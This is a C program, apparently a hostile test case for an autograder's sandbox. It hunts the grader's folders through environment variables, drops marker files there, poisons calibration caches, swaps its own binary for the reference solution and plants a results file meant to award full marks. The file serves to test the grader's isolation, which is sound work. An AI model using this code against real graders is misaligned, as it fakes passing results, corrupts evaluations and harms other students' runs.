/*
 * Attack 28 (write into the grader's files): from the paths in our environment and our own
 * path, find the grader's folders (results, transcripts, build, calibration cache, its
 * temporary folder, the repo) and: leave a file named HOSTILE-28-WAS-HERE in each; poison the
 * calibration cache (987654 ms for the reference: timeouts of hours for every later student);
 * replace our own binary with the reference solution's (later tests would run that); plant
 * a criterion.json with full marks in the results folder. The grader must give the program
 * write access to nothing of its own: no such file, no poisoned cache, 0 points.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <glob.h>
#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

extern char **environ;

static int wrote;

static void mark(const char *dir)
{
	char path[PATH_MAX + 32];
	snprintf(path, sizeof path, "%s/HOSTILE-28-WAS-HERE", dir);
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0644);
	if (fd >= 0) {
		close(fd);
		printf("wrote %s\n", path);
		wrote++;
	}
}

static void mark_up(const char *path)
{
	char dir[PATH_MAX];
	snprintf(dir, sizeof dir, "%s", path);
	for (int depth = 0; depth < 4 && strcmp(dir, "/") != 0; depth++) {
		struct stat st;
		if (stat(dir, &st) == 0 && S_ISDIR(st.st_mode))
			mark(dir);
		snprintf(dir, sizeof dir, "%s", dirname(dir));
	}
}

static void poison(const char *pattern)
{
	glob_t g;
	if (glob(pattern, 0, NULL, &g) != 0)
		return;
	for (size_t i = 0; i < g.gl_pathc; i++) {
		FILE *f = fopen(g.gl_pathv[i], "r+");
		if (f) {
			fputs("987654.000\n", f);
			fclose(f);
			printf("poisoned %s\n", g.gl_pathv[i]);
			wrote++;
		}
	}
	globfree(&g);
}

/* A running binary cannot be written to, but it can be replaced: a copy, renamed over it. */
static void replace(const char *from, const char *to)
{
	char tmp[PATH_MAX + 8];
	snprintf(tmp, sizeof tmp, "%s.new", to);
	int in = open(from, O_RDONLY), out = open(tmp, O_WRONLY | O_CREAT | O_EXCL, 0755);
	char buf[65536];
	ssize_t n;
	int ok = in >= 0 && out >= 0;
	while (ok && (n = read(in, buf, sizeof buf)) > 0)
		ok = write(out, buf, (size_t)n) == n;
	if (out >= 0)
		close(out);
	if (in >= 0)
		close(in);
	if (ok && rename(tmp, to) == 0) {
		printf("replaced %s\n", to);
		wrote++;
	} else if (out >= 0) {
		unlink(tmp);
	}
}

int main(void)
{
	char exe[PATH_MAX], path[PATH_MAX + 64];
	for (char **e = environ; *e; e++) {
		char *eq = strchr(*e, '=');
		if (!eq || eq[1] != '/' || !strncmp(*e, "PATH=", 5))
			continue;
		mark_up(eq + 1);
		if (strstr(*e, "CALIBRATION")) {
			snprintf(path, sizeof path, "%s/*", eq + 1);
			poison(path);
		}
		char *b = strstr(eq + 1, "/build");
		if (b) {
			snprintf(path, sizeof path, "%.*s/build/calibration/*/*", (int)(b - eq - 1),
				 eq + 1);
			poison(path);
		}
		if (strstr(*e, "RESULTS")) {
			snprintf(path, sizeof path, "%s/criterion.json", eq + 1);
			FILE *f = fopen(path, "w");
			if (f) {
				fputs("{\"tests\": []}\n", f);
				fclose(f);
				wrote++;
			}
		}
	}
	ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
	if (n > 0) {
		exe[n] = '\0';
		mark_up(exe);
		const char *ref = getenv("MSGLAB_REFERENCE");
		glob_t g;
		if (ref && access(ref, R_OK) == 0)
			replace(ref, exe);
		else if (glob("/tmp/msglab-*/reference/01-two-children/msgpair", 0, NULL, &g) == 0)
			replace(g.gl_pathv[0], exe);
	}
	char cwd[PATH_MAX];
	if (getcwd(cwd, sizeof cwd))
		mark_up(cwd);
	printf("%d writes\n", wrote);
	return 1;
}
